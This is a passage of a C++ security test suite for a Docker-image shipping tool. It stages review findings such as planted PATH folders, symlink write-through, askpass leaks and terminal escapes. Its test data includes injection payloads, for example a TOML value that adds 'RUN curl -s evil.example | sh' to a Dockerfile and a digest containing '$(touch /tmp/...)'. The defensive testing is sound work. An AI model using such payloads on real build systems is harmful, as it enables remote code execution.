// SPDX-License-Identifier: MIT
// Issue 14: a hostile repository, a hostile server or a shared machine gets nothing.
// Each finding is staged for real where it can be (a folder planted in /tmp, a symlink, a
// crafted repository or archive, a real sshd on 127.0.0.1, a real second machine with its own
// sshd and dockerd for rollback); the value grammars and the
// prompt matching are checked against data tables.
#include "image/imagearchive.h"
#include "project/projectscanner.h"
#include "recipe/buildrecipe.h"
#include "recipe/dockerfilewriter.h"
#include "settings/preferences.h"
#include "settings/toolpaths.h"
#include "ship/askpass.h"
#include "ship/secretstore.h"
#include "ship/serverprofile.h"
#include "ship/shipjobs.h"
#include "ship/shipper.h"
#include "ship/sshconnection.h"
#include "failuretext.h"
#include "servermachine.h"
#include "sshserver.h"
#include "testsupport.h"

#include <KCompressionDevice>
#include <KTar>

#include <QBuffer>
#include <QCoreApplication>
#include <QCryptographicHash>
#include <QDateTime>
#include <QDeadlineTimer>
#include <QProcess>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QMutex>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>
#include <QUuid>
#include <QtConcurrent>

#include <cstdio>
#include <cstdlib>
#include <thread>

#include <sys/stat.h>
#include <unistd.h>

using namespace Qt::StringLiterals;
using namespace Gantry;
using GantryTest::SshServer;

namespace {

bool writeFile(const QString &path, const QByteArray &bytes)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    return f.open(QIODevice::WriteOnly | QIODevice::Truncate) && f.write(bytes) == bytes.size();
}

/// Forwards what is written to another device and hashes it on the way (the diff id of a
/// layer whose tar is never held in memory or on disk).
class HashingDevice : public QIODevice
{
public:
    explicit HashingDevice(QIODevice *out) : m_out(out) {}
    QByteArray hex() const { return m_hash.result().toHex(); }

protected:
    qint64 readData(char *, qint64) override { return -1; }
    qint64 writeData(const char *data, qint64 len) override
    {
        m_hash.addData(QByteArrayView(data, len));
        return m_out->write(data, len);
    }

private:
    QIODevice *m_out;
    QCryptographicHash m_hash{QCryptographicHash::Sha256};
};

/// A docker-save archive with one gzip'd layer holding one file of `size` zero bytes (a
/// preallocated database file, say): the layer is ~1000 times smaller than its tar.
QString writeZerosImage(const QString &path, qint64 size)
{
    QByteArray gz;
    QByteArray diffHex;
    {
        QBuffer buffer(&gz);
        buffer.open(QIODevice::WriteOnly);
        KCompressionDevice dev(&buffer, false, KCompressionDevice::GZip);
        if (!dev.open(QIODevice::WriteOnly))
            return {};
        HashingDevice hashing(&dev);
        KTar tar(&hashing);
        if (!tar.open(QIODevice::WriteOnly))
            return {};
        tar.writeDir(u"var"_s, u"root"_s, u"root"_s);
        tar.prepareWriting(u"var/preallocated.db"_s, u"root"_s, u"root"_s, size, 0100644);
        const QByteArray chunk(1 << 20, '\0');
        for (qint64 left = size; left > 0; left -= chunk.size())
            tar.writeData(chunk.constData(), std::min<qint64>(left, chunk.size()));
        tar.finishWriting(size);
        tar.close();
        diffHex = hashing.hex();
        dev.close();
    }
    const QString blob = u"blobs/sha256/"_s + QString::fromLatin1(QCryptographicHash::hash(gz, QCryptographicHash::Sha256).toHex());
    const QJsonObject config{{u"architecture"_s, u"amd64"_s},
                             {u"os"_s, u"linux"_s},
                             {u"rootfs"_s, QJsonObject{{u"type"_s, u"layers"_s}, {u"diff_ids"_s, QJsonArray{QJsonValue(u"sha256:"_s + QString::fromLatin1(diffHex))}}}},
                             {u"history"_s, QJsonArray{QJsonObject{{u"created_by"_s, u"RUN fallocate -l 1G /var/preallocated.db"_s}}}}};
    const QByteArray configData = QJsonDocument(config).toJson(QJsonDocument::Compact);
    const QString configBlob = u"blobs/sha256/"_s + QString::fromLatin1(QCryptographicHash::hash(configData, QCryptographicHash::Sha256).toHex());
    const QJsonArray manifest{QJsonObject{{u"Config"_s, configBlob}, {u"RepoTags"_s, QJsonArray{u"security-zeros:latest"_s}}, {u"Layers"_s, QJsonArray{blob}}}};
    KTar outer(path);
    if (!outer.open(QIODevice::WriteOnly))
        return {};
    outer.writeFile(blob, gz);
    outer.writeFile(configBlob, configData);
    outer.writeFile(u"manifest.json"_s, QJsonDocument(manifest).toJson(QJsonDocument::Compact));
    outer.close();
    return path;
}

/// A docker-save archive with one plain layer (the given tar bytes).
QString writeImageWithLayer(const QString &path, const QByteArray &layer)
{
    const QString hex = QString::fromLatin1(QCryptographicHash::hash(layer, QCryptographicHash::Sha256).toHex());
    const QJsonObject config{{u"architecture"_s, u"amd64"_s}, {u"os"_s, u"linux"_s},
                             {u"rootfs"_s, QJsonObject{{u"type"_s, u"layers"_s}, {u"diff_ids"_s, QJsonArray{QJsonValue(u"sha256:"_s + hex)}}}}};
    const QByteArray configData = QJsonDocument(config).toJson(QJsonDocument::Compact);
    const QString configName = QString::fromLatin1(QCryptographicHash::hash(configData, QCryptographicHash::Sha256).toHex()) + u".json"_s;
    KTar outer(path);
    if (!outer.open(QIODevice::WriteOnly))
        return {};
    outer.writeFile(hex + u"/layer.tar"_s, layer);
    outer.writeFile(configName, configData);
    outer.writeFile(u"manifest.json"_s, QJsonDocument(QJsonArray{QJsonObject{{u"Config"_s, configName},
                                                                           {u"Layers"_s, QJsonArray{QJsonValue(hex + u"/layer.tar"_s)}}}})
                                            .toJson(QJsonDocument::Compact));
    outer.close();
    return path;
}

} // namespace

class TestSecurity : public QObject
{
    Q_OBJECT

    SshServer m_server;
    QTemporaryDir m_work{QDir::tempPath() + u"/security-test-XXXXXX"_s};
    QString m_image; ///< a tiny image of our own, made in initTestCase
    std::shared_ptr<const PreparedImage> m_delta, m_full;

    ServerProfile profile(const QString &remoteDir) const
    {
        ServerProfile p;
        p.name = u"security-target"_s;
        p.host = m_server.host();
        p.port = m_server.port();
        p.user = u"root"_s;
        p.identityFile = m_server.clientKey();
        p.knownHostsFile = m_server.knownHostsFile();
        p.remoteDir = remoteDir;
        return p;
    }
    SshOptions batch() const
    {
        SshOptions o;
        o.useKeychain = false;
        return o;
    }
    ShipOptions shipOptions(ShipMode mode) const
    {
        ShipOptions o;
        o.mode = mode;
        o.ssh = batch();
        o.cacheDir = m_work.filePath(u"cache"_s);
        return o;
    }
    std::shared_ptr<const PreparedImage> prepared(ShipMode mode)
    {
        auto &slot = mode == ShipMode::Delta ? m_delta : m_full;
        if (!slot) {
            const auto prepared = prepareImage(m_image, shipOptions(mode), {}, nullptr);
            if (prepared)
                slot = *prepared;
            else
                qWarning("prepareImage: %s", qPrintable(prepared.failure().sentence()));
        }
        return slot;
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_work.isValid());
        QString error;
        QVERIFY2(m_server.start(&error), qPrintable(error));
        // A two-layer image from scratch: nothing to pull, seconds to build.
        const QString context = m_work.filePath(u"image"_s);
        QVERIFY(writeFile(context + u"/Dockerfile"_s, "FROM scratch\nCOPY a.txt /a.txt\nCOPY b.txt /b.txt\n"));
        QVERIFY(writeFile(context + u"/a.txt"_s, QUuid::createUuid().toByteArray()));
        QVERIFY(writeFile(context + u"/b.txt"_s, QByteArray(300000, 'b')));
        m_image = u"security-tiny:"_s + QUuid::createUuid().toString(QUuid::Id128).left(12);
        const auto built = GantryTest::runDocker({u"build"_s, u"-q"_s, u"-t"_s, m_image, context}, 300000);
        QVERIFY2(built.ok(), qPrintable(built.stderrText()));
    }

    void cleanupTestCase()
    {
        if (!m_image.isEmpty())
            GantryTest::runDocker({u"image"_s, u"rm"_s, u"-f"_s, m_image});
        Gantry::runProcess(u"userdel"_s, {u"-f"_s, u"security-tgt"_s});
        Gantry::runProcess(u"userdel"_s, {u"-f"_s, u"security-jmp"_s});
    }

    // Finding 1: without XDG_RUNTIME_DIR the tool folder was /tmp/gantry-tools-<pid>; a
    // folder another user made there first (with any program in it) came first on PATH.
    void toolFolderCannotBePlanted()
    {
        const QByteArray savedRuntime = qgetenv("XDG_RUNTIME_DIR");
        qunsetenv("XDG_RUNTIME_DIR");
        const QString planted = QDir::tempPath() + u"/gantry-tools-%1"_s.arg(QCoreApplication::applicationPid());
        QDir(planted).removeRecursively();
        QVERIFY(QDir().mkpath(planted));
        const QString evil = planted + u"/security-hijacked-tool"_s;
        {
            QFile f(evil);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("#!/bin/sh\necho hijacked\n");
        }
        QVERIFY(QFile::setPermissions(evil, QFileDevice::ReadOwner | QFileDevice::ExeOwner | QFileDevice::ReadOther | QFileDevice::ExeOther));
        QFile::setPermissions(planted, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner
                                           | QFileDevice::ReadOther | QFileDevice::ExeOther);

        const ToolPaths tools = applyToolPreferences(Preferences());
        const QString found = QStandardPaths::findExecutable(u"security-hijacked-tool"_s);
        QDir(planted).removeRecursively();
        if (!savedRuntime.isEmpty())
            qputenv("XDG_RUNTIME_DIR", savedRuntime);

        QVERIFY2(found.isEmpty(), qPrintable(u"a program planted in %1 is found on Gantry's PATH: %2"_s.arg(planted, found)));
        QVERIFY(!tools.binDir.isEmpty());
        QVERIFY2(tools.binDir != planted, qPrintable(tools.binDir));
        QVERIFY(qEnvironmentVariable("PATH").startsWith(tools.binDir + QDir::listSeparator()));
        struct stat st {};
        QCOMPARE(::lstat(QFile::encodeName(tools.binDir).constData(), &st), 0);
        QVERIFY(S_ISDIR(st.st_mode));
        QCOMPARE(st.st_uid, ::geteuid());
        QCOMPARE(int(st.st_mode & 0777), 0700);
        // The chosen ssh is still the one found first, through the private folder.
        if (!tools.ssh.isEmpty())
            QCOMPARE(QFileInfo(QStandardPaths::findExecutable(u"ssh"_s)).canonicalFilePath(), QFileInfo(tools.ssh).canonicalFilePath());
    }

    // Finding 3: the jump host's password prompt got the target's stored password. The
    // jump (a real sshd) logs a failed password when it receives the wrong one.
    void askpassServesTheStoredPasswordOnlyToItsOwnPrompt()
    {
        if (qEnvironmentVariableIsEmpty("DBUS_SESSION_BUS_ADDRESS"))
            QSKIP("no D-Bus session: run through tests/data/ship/with-keyring.sh (ctest does)");
        SshServer jump;
        QString error;
        QVERIFY2(jump.start(&error), qPrintable(error));
        const QString targetPw = u"security-tgt-"_s + QUuid::createUuid().toString(QUuid::Id128).left(16);
        const QString jumpPw = u"security-jmp-"_s + QUuid::createUuid().toString(QUuid::Id128).left(16);
        QVERIFY2(SshServer::addPasswordUser(u"security-tgt"_s, targetPw, &error), qPrintable(error));
        QVERIFY2(SshServer::addPasswordUser(u"security-jmp"_s, jumpPw, &error), qPrintable(error));
        // A key neither server knows: only passwords can log in.
        const QString key = m_work.filePath(u"unknown_key"_s);
        QVERIFY(Gantry::runProcess(u"ssh-keygen"_s, {u"-q"_s, u"-t"_s, u"ed25519"_s, u"-N"_s, u""_s, u"-f"_s, key}).ok());
        const QString bothKnown = m_work.filePath(u"both_known_hosts"_s);
        QVERIFY(writeFile(bothKnown, GantryTest::readAll(m_server.knownHostsFile()) + GantryTest::readAll(jump.knownHostsFile())));

        ServerProfile p = profile(m_work.filePath(u"remote-askpass"_s));
        p.user = u"security-tgt"_s;
        p.identityFile = key;
        p.knownHostsFile = bothKnown;
        p.jumpHost = u"security-jmp@127.0.0.1:%1"_s.arg(jump.port());
        const Status stored = SecretStore::write(p.passwordKey(), targetPw);
        QVERIFY2(stored, qPrintable(GantryTest::failureText(stored)));

        QMutex mutex;
        QStringList asked;
        SshOptions o;
        o.useKeychain = true;
        o.responder = [&](const AskpassRequest &r) -> AskpassReply {
            QMutexLocker lock(&mutex);
            asked << r.prompt;
            if (r.prompt.contains(u"security-jmp@"_s))
                return {true, jumpPw}; // the person knows the jump host's password
            return {};
        };
        SshConnection ssh(p, o);
        const Status opened = ssh.open();
        (void)SecretStore::remove(p.passwordKey());
        QVERIFY2(opened, qPrintable(GantryTest::failureText(opened) + u"\nasked: "_s + asked.join(u" | "_s)));
        QVERIFY2(!jump.log().contains(u"Failed password for security-jmp"_s),
                 qPrintable(u"the jump host was sent a wrong password (the target's):\n"_s + jump.log().right(1500)));
        QVERIFY2(jump.log().contains(u"Accepted password for security-jmp"_s), qPrintable(jump.log().right(1500)));
        QVERIFY2(m_server.log().contains(u"Accepted password for security-tgt"_s), qPrintable(m_server.log().right(1500)));
        QCOMPARE(asked.size(), 1); // the jump's prompt went to the person, the target's to the keychain
        QVERIFY2(asked.constFirst().contains(u"security-jmp@127.0.0.1's password"_s), qPrintable(asked.constFirst()));
    }

    // Finding 8: the askpass socket answered any client of the same user. A program that
    // is not a descendant of Gantry (here: an orphan, re-parented away from the test) asks.
    void askpassAnswersOnlyTheSshItStarted()
    {
        QTemporaryDir dir;
        QVERIFY(QFile::setPermissions(dir.path(), QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner));
        AskpassServer server;
        const Status listening = server.listen(dir.filePath(u"askpass"_s));
        QVERIFY2(listening, qPrintable(GantryTest::failureText(listening)));
        int served = 0;
        const auto handler = [&](const AskpassRequest &) {
            ++served;
            return AskpassReply{true, u"security-secret"_s};
        };
        const QString out = dir.filePath(u"orphan.out"_s);
        const auto spawned = Gantry::runProcess(u"sh"_s, {u"-c"_s, u"(GANTRY_ASKPASS_SOCKET=\"$1\" \"$2\" \"me@host's password: \" > \"$3\" 2>&1 &)"_s,
                                                          u"sh"_s, server.socketPath(), GantryTest::gantryExecutable(), out});
        QVERIFY(spawned.ok());
        QDeadlineTimer deadline(20000);
        while (!deadline.hasExpired() && !server.serve(200, handler)) {
        }
        for (int i = 0; i < 100 && !GantryTest::readAll(out).contains("Gantry"); ++i)
            QThread::msleep(50); // the orphan's own words once it is refused
        QCOMPARE(served, 0);
        QVERIFY2(!GantryTest::readAll(out).contains("security-secret"), GantryTest::readAll(out).constData());

        // The helper of a program Gantry started is answered.
        QProcess child;
        auto env = QProcessEnvironment::systemEnvironment();
        env.insert(u"GANTRY_ASKPASS_SOCKET"_s, server.socketPath());
        child.setProcessEnvironment(env);
        child.start(GantryTest::gantryExecutable(), {u"me@host's password: "_s});
        QVERIFY(child.waitForStarted());
        QDeadlineTimer second(20000);
        while (!second.hasExpired() && !server.serve(200, handler)) {
        }
        QVERIFY(child.waitForFinished(10000));
        QCOMPARE(served, 1);
        QCOMPARE(child.readAllStandardOutput(), QByteArray("security-secret\n"));
    }

    // Finding 8: ShipJob's worker asked the page through a blocking queued call while
    // ~ShipJob() waited for the worker on the page's thread: closing the window while ssh
    // asked about a host key deadlocked.
    void shipJobClosesWhileSshAsks()
    {
        auto *job = new ShipJob;
        job->setResponder([](const AskpassRequest &) { return AskpassReply{true, u"no"_s}; });
        ServerProfile p = profile(m_work.filePath(u"remote-deadlock"_s));
        p.knownHostsFile = m_work.filePath(u"empty_known_hosts"_s); // the host key is unknown: ssh asks
        QVERIFY(writeFile(p.knownHostsFile, {}));
        SshOptions o = batch();
        job->testConnection(p, o);
        // Wait (without running this thread's events) until ssh's question is pending.
        QDeadlineTimer asked(30000);
        while (!asked.hasExpired() && GantryTest::processesMentioning(u"authenticity of host"_s).isEmpty())
            QThread::msleep(50);
        QVERIFY2(!asked.hasExpired(), "ssh never asked about the host key");
        std::atomic_bool deleted{false};
        std::thread watchdog([&deleted] {
            for (int i = 0; i < 600 && !deleted; ++i)
                QThread::msleep(50);
            if (!deleted) {
                std::fputs("FAIL! shipJobClosesWhileSshAsks: ~ShipJob() deadlocked for 30 s\n", stderr);
                std::_Exit(1);
            }
        });
        delete job; // the page closes
        deleted = true;
        watchdog.join();
    }

    // Finding 2: the home folder, / and system folders are refused as Gantry's remote folder.
    void remoteFolderRefused_data()
    {
        QTest::addColumn<QString>("remoteDir");
        QTest::newRow("root") << u"/"_s;
        QTest::newRow("tilde") << u"~"_s;
        QTest::newRow("tilde slash") << u"~/"_s;
        QTest::newRow("$HOME") << u"$HOME"_s;
        QTest::newRow("dot (the home)") << u"."_s;
        QTest::newRow("/etc") << u"/etc"_s;
        QTest::newRow("/usr/bin") << u"/usr/bin"_s;
        QTest::newRow("/root") << u"/root"_s;
        QTest::newRow("/home") << u"/home"_s;
        QTest::newRow("/tmp") << u"/tmp"_s;
        QTest::newRow("up and out") << u"../.."_s;
    }
    void remoteFolderRefused()
    {
        QFETCH(QString, remoteDir);
        const Result<QString> checked = checkServer(profile(remoteDir), batch());
        const bool ok = checked.ok();
        const QString message = ok ? *checked : checked.failure().sentence();
        QVERIFY2(!ok, qPrintable(u"accepted %1 as Gantry's remote folder: %2"_s.arg(remoteDir, message)));
        QVERIFY2(message.contains(u"remote folder"_s), qPrintable(message));
        QVERIFY2(!message.contains(u'\n'), qPrintable(message));
    }

    // Finding 4: a remote folder that is a link, or that another user owns, is refused.
    void remoteFolderLinkOrForeignRefused()
    {
        const QString real = m_work.filePath(u"elsewhere"_s);
        QVERIFY(QDir().mkpath(real));
        const QString link = m_work.filePath(u"remote-link"_s);
        QVERIFY(QFile::link(real, link));
        const auto check = [this](const QString &remoteDir, bool &ok) {
            const Result<QString> checked = checkServer(profile(remoteDir), batch());
            ok = checked.ok();
            return ok ? *checked : checked.failure().sentence();
        };
        bool ok = true;
        QString message = check(link, ok);
        QVERIFY2(!ok, qPrintable(u"a remote folder that is a link was accepted: "_s + message));
        QVERIFY2(message.contains(u"link"_s), qPrintable(message));

        const QString foreign = m_work.filePath(u"remote-foreign"_s);
        QVERIFY(QDir().mkpath(foreign));
        QVERIFY(::chown(QFile::encodeName(foreign).constData(), 65534, 65534) == 0);
        message = check(foreign, ok);
        QVERIFY2(!ok, qPrintable(u"a remote folder of another user was accepted: "_s + message));
        QVERIFY2(message.contains(u"owned"_s), qPrintable(message));
    }

    // Review of issue 19: `gantry rollback` runs no ship first, and its scripts set $dir
    // themselves, so it wrote its env file into a linked or foreign folder unchecked. Now every
    // deploy script starts with the remote policy's prelude: rollback refuses with its sentence.
    // Staged on a real second machine (its own sshd, dockerd and disk), where the folders are
    // and where "nothing was written" is checked; started here only, the one case that needs it.
    void rollbackRefusesALinkedOrForeignFolder()
    {
        GantryTest::ServerMachine server;
        QVERIFY2(server.start(), qPrintable(server.startFailure()));
        const QString real = u"/srv/rollback-elsewhere"_s, link = u"/srv/rollback-link"_s, foreign = u"/srv/rollback-foreign"_s;
        const auto staged = server.run(u"mkdir -p %1 %3 && ln -s %1 %2 && chown 65534:65534 %3"_s.arg(real, link, foreign));
        QVERIFY2(staged.ok(), qPrintable(staged.stderrText()));
        const QList<std::pair<QString, QString>> cases{{link, u"is a symbolic link"_s}, {foreign, u"is owned by another user"_s}};
        for (const auto &[remoteDir, sentence] : cases) {
            const Gantry::ProcessResult r = GantryTest::runGantry(
                {u"rollback"_s, u"--to"_s, server.destination(), u"-i"_s, server.clientKey(), u"--known-hosts"_s, server.knownHostsFile(),
                 u"--remote-dir"_s, remoteDir, u"--name"_s, u"security-rollback"_s, u"--batch"_s});
            const QString err = r.stderrText();
            QVERIFY2(r.started && r.exitCode != 0, qPrintable(err));
            QVERIFY2(err.contains(u"the remote folder %1 %2"_s.arg(remoteDir, sentence)), qPrintable(err));
            QVERIFY2(!err.contains(u'\x1b'), qPrintable(err));
        }
        // Nothing was written through the link, nor into the foreign folder, on the server.
        const auto left = server.run(u"ls -A %1 %2"_s.arg(real, foreign));
        QVERIFY2(left.ok(), qPrintable(left.stderrText()));
        QCOMPARE(left.stdoutText().split(u'\n', Qt::SkipEmptyParts), (QStringList{real + u':', foreign + u':'}));
    }

    // Finding 2: the stale-folder sweep ran in "$dir/tmp" of any folder (a user's own
    // tmp/), and a full ship removed everything in "$dir/archives".
    void cleanupRemovesOnlyGantrysOwnFiles()
    {
        const auto delta = prepared(ShipMode::Delta);
        QVERIFY(delta);
        // A folder of the user's with a tmp/ of their own, old enough for the sweep.
        const QString users = m_work.filePath(u"remote-users"_s);
        const QString keep = users + u"/tmp/thesis-draft"_s;
        QVERIFY(writeFile(keep + u"/chapter1.txt"_s, "mine"));
        const QDateTime old = QDateTime::currentDateTime().addSecs(-5 * 3600);
        QVERIFY(Gantry::runProcess(u"touch"_s, {u"-d"_s, old.toString(Qt::ISODate), keep}).ok());
        const ShipResult r1 = shipImage(*delta, profile(users), shipOptions(ShipMode::Delta), {}, nullptr);
        QVERIFY2(QFile::exists(keep + u"/chapter1.txt"_s), qPrintable(u"the user's own tmp/ was swept: "_s + r1.error()));
        if (!r1.ok())
            QVERIFY2(r1.error().contains(users), qPrintable(r1.error()));

        // Gantry's own folder: a file the user put into archives/ survives a full ship.
        const auto full = prepared(ShipMode::Full);
        QVERIFY(full);
        const QString mine = m_work.filePath(u"remote-gantry"_s);
        ShipResult r2 = shipImage(*full, profile(mine), shipOptions(ShipMode::Full), {}, nullptr);
        QVERIFY2(r2.ok(), qPrintable(r2.error()));
        const QString note = mine + u"/archives/notes.txt"_s;
        QVERIFY(writeFile(note, "not Gantry's"));
        QVERIFY(writeFile(mine + u"/archives/"_s + QString(64, u'a') + u".tar.gz"_s, "an old archive of Gantry's"));
        r2 = shipImage(*full, profile(mine), shipOptions(ShipMode::Full), {}, nullptr);
        QVERIFY2(r2.ok(), qPrintable(r2.error()));
        QVERIFY2(QFile::exists(note), "a file Gantry did not make was removed from archives/");
        QVERIFY2(!QFile::exists(mine + u"/archives/"_s + QString(64, u'a') + u".tar.gz"_s), "Gantry's own old archive stays");
    }

    // Finding 4: files are created under a 077 umask and a planted .partial link is never
    // followed (the upload would have been written into the link's target).
    void uploadNeverFollowsAPlantedLink()
    {
        // Full mode: the archive is sent whatever the engine holds (a delta ship to this
        // server, whose engine is the local one, would have nothing to send).
        const auto full = prepared(ShipMode::Full);
        QVERIFY(full);
        const QString dir = m_work.filePath(u"remote-planted"_s);
        const QString victim = m_work.filePath(u"victim.txt"_s);
        QVERIFY(writeFile(victim, "precious"));
        QVERIFY(QDir().mkpath(dir + u"/archives"_s));
        const QString archive = dir + u"/archives/"_s + full->archiveSha256 + full->archiveSuffix;
        QVERIFY(QFile::link(victim, archive + u".partial"_s));
        const ShipResult r = shipImage(*full, profile(dir), shipOptions(ShipMode::Full), {}, nullptr);
        QCOMPARE(GantryTest::readAll(victim), QByteArray("precious"));
        QVERIFY2(!r.ok(), "the ship went on through a planted link");
        QVERIFY2(r.error().contains(u"symbolic link"_s), qPrintable(r.error()));
        QVERIFY(!QFileInfo::exists(archive));

        // Without the link the same folder works, and what arrives is private (umask 077).
        QVERIFY(QFile::remove(archive + u".partial"_s));
        const ShipResult again = shipImage(*full, profile(dir), shipOptions(ShipMode::Full), {}, nullptr);
        QVERIFY2(again.ok(), qPrintable(again.error()));
        QVERIFY(QFileInfo(archive).isFile() && !QFileInfo(archive).isSymLink());
        QCOMPARE(int(QFileInfo(archive).permissions() & (QFileDevice::ReadOther | QFileDevice::WriteOther | QFileDevice::ReadGroup)), 0);
    }

    // Finding 5: a Dockerfile link in the repository (even a dangling one) was written through.
    void dockerfileLinkIsNotWrittenThrough_data()
    {
        QTest::addColumn<bool>("dangling");
        QTest::newRow("dangling link") << true;
        QTest::newRow("link to a file outside") << false;
    }
    void dockerfileLinkIsNotWrittenThrough()
    {
        QFETCH(bool, dangling);
        QTemporaryDir tmp;
        const QString repo = tmp.filePath(u"repo"_s);
        const QString outside = tmp.filePath(u"outside/.bashrc"_s);
        QVERIFY(QDir().mkpath(repo));
        QVERIFY(QDir().mkpath(tmp.filePath(u"outside"_s)));
        if (!dangling)
            QVERIFY(writeFile(outside, "alias ls='ls --color'\n"));
        QVERIFY(QFile::link(outside, repo + u"/Dockerfile"_s));
        BuildRecipe r;
        r.backendDir = u"."_s;
        r.binary = u"app"_s;
        const QList<PlannedFile> plan = planRecipeFiles(r, repo);
        const Status written = writeRecipeFiles(plan, true);
        QVERIFY2(!written, "the Dockerfile was written through a link");
        const QString error = written.failure().sentence();
        QVERIFY2(error.contains(u"link"_s), qPrintable(error));
        QCOMPARE(QFileInfo::exists(outside), !dangling);
        if (!dangling)
            QCOMPARE(GantryTest::readAll(outside), QByteArray("alias ls='ls --color'\n"));
        QVERIFY2(!QFileInfo::exists(repo + u"/gantry.toml"_s), "nothing is written when one file is refused");
    }

    // Finding 5: values from gantry.toml reached the Dockerfile unescaped.
    void recipeValuesCannotInjectInstructions_data()
    {
        QTest::addColumn<QString>("toml");
        QTest::addColumn<QString>("field");
        const QString head = u"[project]\nbackend = \".\"\nbinary = \"app\"\n"_s;
        QTest::newRow("binary") << u"[project]\nbackend = \".\"\nbinary = \"app\\nRUN curl -s evil.example | sh\"\n"_s << u"binary"_s;
        QTest::newRow("binary with a quote") << u"[project]\nbackend = \".\"\nbinary = \"app\\\"]\\nRUN id #\"\n"_s << u"binary"_s;
        QTest::newRow("user") << head + u"[runtime]\nuser = \"65532\\nRUN curl -s evil.example | sh\"\n"_s << u"user"_s;
        const QString withFrontend = u"[project]\nbackend = \".\"\nfrontend = \"web\"\nbinary = \"app\"\n"_s;
        QTest::newRow("static dir") << withFrontend + u"[runtime]\nstatic_dir = \"/app/public\\nRUN id\"\n"_s << u"static"_s;
        QTest::newRow("env value") << head + u"[runtime.env]\nRUST_LOG = \"info\\nRUN curl -s evil.example | sh\"\n"_s << u"RUST_LOG"_s;
        QTest::newRow("runtime image") << head + u"[images]\nruntime = \"scratch\\nRUN id\"\n"_s << u"runtime"_s;
        QTest::newRow("rust image") << head + u"[images]\nrust = \"rust:1 AS x\\nFROM evil\"\n"_s << u"rust"_s;
        QTest::newRow("node version") << withFrontend + u"[frontend]\nnode = \"20\\nRUN id\"\n"_s << u"node"_s;
        QTest::newRow("frontend output") << withFrontend + u"[frontend]\noutput = \"dist\\nRUN id\"\n"_s << u"output"_s;
        QTest::newRow("debian crate") << head + u"[target]\ntoolchain = \"debian\"\ndebian_crates = [\"axum\\nRUN id\"]\n"_s << u"crate"_s;
    }
    void recipeValuesCannotInjectInstructions()
    {
        QFETCH(QString, toml);
        QFETCH(QString, field);
        QString error;
        const auto recipe = BuildRecipe::fromToml(toml);
        if (!recipe)
            error = recipe.failure().sentence();
        if (!recipe) {
            QVERIFY2(error.contains(field), qPrintable(u"the refusal must name %1: %2"_s.arg(field, error)));
            QVERIFY2(!error.contains(u'\n'), qPrintable(error));
            return;
        }
        // Loaded: then the Dockerfile must not carry an instruction of the repository's.
        const QString dockerfile = DockerfileWriter::dockerfile(*recipe);
        static const QRegularExpression injected(u"^\\s*(RUN id|RUN curl|FROM evil)"_s, QRegularExpression::MultilineOption);
        QVERIFY2(!injected.match(dockerfile).hasMatch(), qPrintable(dockerfile));
        QVERIFY2(!recipe->validate().isEmpty() || !dockerfile.contains(u"evil"_s), qPrintable(dockerfile));
    }

    // Finding 7: digests from an archive went into remote scripts unquoted; every digest
    // is now checked against ^sha256:[0-9a-f]{64}$ when the archive is read.
    void shipReaderRefusesAMalformedDigest()
    {
        const QByteArray layer = [] {
            QByteArray tar;
            QBuffer b(&tar);
            b.open(QIODevice::WriteOnly);
            KTar t(&b);
            t.open(QIODevice::WriteOnly);
            t.writeFile(u"hello.txt"_s, "hello");
            t.close();
            return tar;
        }();
        const QString evil = u"sha256:$(touch /tmp/security-pwned)"_s;
        const QJsonObject config{{u"architecture"_s, u"amd64"_s}, {u"os"_s, u"linux"_s},
                                 {u"rootfs"_s, QJsonObject{{u"type"_s, u"layers"_s}, {u"diff_ids"_s, QJsonArray{evil}}}}};
        const QByteArray configData = QJsonDocument(config).toJson(QJsonDocument::Compact);
        const QString path = m_work.filePath(u"evil-digest.tar"_s);
        {
            KTar outer(path);
            QVERIFY(outer.open(QIODevice::WriteOnly));
            outer.writeFile(u"layer.tar"_s, layer);
            outer.writeFile(u"config.json"_s, configData);
            outer.writeFile(u"manifest.json"_s, QJsonDocument(QJsonArray{QJsonObject{{u"Config"_s, u"config.json"_s},
                                                                                      {u"Layers"_s, QJsonArray{u"layer.tar"_s}}}})
                                                    .toJson(QJsonDocument::Compact));
            outer.close();
        }
        const auto image = prepareImage(path, shipOptions(ShipMode::Delta), {}, nullptr);
        QVERIFY(!image);
        const QString error = image.failure().sentence();
        QVERIFY2(error.contains(u"not a sha256 digest"_s), qPrintable(error));
        QVERIFY(!QFile::exists(u"/tmp/security-pwned"_s));
    }

    // Finding 8: server output with terminal escapes was printed raw by the CLI (a hostile
    // server could retitle the terminal, clear it or hide text).
    void cliPrintsNoTerminalEscapesFromTheServer()
    {
        const QString fakeDocker = m_work.filePath(u"security-escape-docker"_s);
        QVERIFY(writeFile(fakeDocker, "#!/bin/sh\nprintf '\\033]0;owned\\007\\033[2J\\033[8mhidden' >&2\nexit 1\n"));
        QVERIFY(QFile::setPermissions(fakeDocker, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner));
        const auto r = GantryTest::runGantry({u"ship"_s, u"--check"_s, u"--to"_s, m_server.destination(), u"-i"_s, m_server.clientKey(),
                                              u"--known-hosts"_s, m_server.knownHostsFile(), u"--remote-dir"_s,
                                              m_work.filePath(u"remote-escape"_s), u"--remote-docker"_s, fakeDocker, u"--batch"_s});
        QVERIFY(!r.ok());
        const QByteArray all = r.standardOutput + r.standardError;
        QVERIFY2(all.contains("owned"), all.constData()); // the server's text is shown...
        QVERIFY2(!all.contains('\x1b') && !all.contains('\x07'), all.toHex(' ').constData()); // ...but not as escapes
        QVERIFY2(all.contains("\\x1b"), all.constData());
    }

    // Finding 8: the path table and the layer walk recursed once per folder level, without a cap (thousands of levels exhaust a worker thread's stack: 512 KiB on macOS).
    void deepPathIsRefusedNotACrash()
    {
        QByteArray layer;
        {
            QBuffer b(&layer);
            b.open(QIODevice::WriteOnly);
            KTar t(&b);
            QVERIFY(t.open(QIODevice::WriteOnly));
            QVERIFY(t.writeFile(u"a/"_s.repeated(2000) + u"deep.txt"_s, "deep"));
            t.close();
        }
